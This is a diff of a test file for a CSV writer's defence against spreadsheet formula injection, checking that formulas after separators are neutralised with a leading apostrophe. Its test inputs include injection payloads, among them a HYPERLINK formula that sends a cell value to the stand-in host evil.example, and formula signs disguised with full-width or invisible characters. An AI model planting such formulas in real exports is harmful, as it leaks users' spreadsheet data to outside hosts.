@@ -28,15 +28,12 @@ const FORMULAS = [
   '+49 69 123456',
   '-2+3',
   '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
   // Spreadsheets skip leading blanks of any kind before they look for a formula.
   ' =1+1',
   '   +1+1',
   '\u00a0=HYPERLINK("http://evil.example")',
   '\u3000@SUM(A1:A9)',
   '\u200b-2+3',
-  '\n=1+1',
   // The full-width signs of CJK keyboards count as formula signs too.
   '＝HYPERLINK("http://evil.example")',
   '＋1+1',
@@ -79,6 +76,39 @@ describe('CSV writer, read back with csv-parse', () => {
         ),
       ).rows.map((r) => r.Company),
     ).toEqual(NOT_FORMULAS);
+  });
+
+  it('guards a formula start after every separator a spreadsheet may split on: , ; tab CR LF', () => {
+    const cases: [string, string][] = [
+      ['Chef;=HYPERLINK("http://evil.example/?x="&A1)', `Chef;'=HYPERLINK("http://evil.example/?x="&A1)`],
+      ['a,=1+1', "a,'=1+1"],
+      ['Müller, -2+3', "Müller,' -2+3"],
+      ['a\t@SUM(A1:A9)', "a\t'@SUM(A1:A9)"],
+      ['a\n=1+1', "a\n'=1+1"],
+      ['a\r\n+1+1', "a\r\n'+1+1"],
+      ['a\r=1', "a\r'=1"],
+      ['Chef; "=1+1"', `Chef;' "=1+1"`],
+      ['x;\u00a0＝1', "x;'\u00a0＝1"],
+      ['=1;=2', "'=1;'=2"],
+      ['\t=1+1', "'\t'=1+1"],
+      ['\r=1+1', "'\r'=1+1"],
+      ['\n=1+1', "'\n'=1+1"],
+    ];
+    const text = toCsv(
+      ['Company'],
+      cases.map(([v]) => [v]),
+    );
+    expect(readCsv(text).rows.map((r) => r.Company)).toEqual(cases.map(([, safe]) => safe));
+    // Text with a separator but no formula after it is left exactly as typed.
+    const plain = ['Sales - EMEA', 'a, b', 'Müller;Schmidt', 'x;#1', 'a,1+1', 'Wein; Segeln'];
+    expect(
+      readCsv(
+        toCsv(
+          ['Company'],
+          plain.map((v) => [v]),
+        ),
+      ).rows.map((r) => r.Company),
+    ).toEqual(plain);
   });
 
   it('leaves a phone number as typed in the phone column, and guards anything else there', () => {
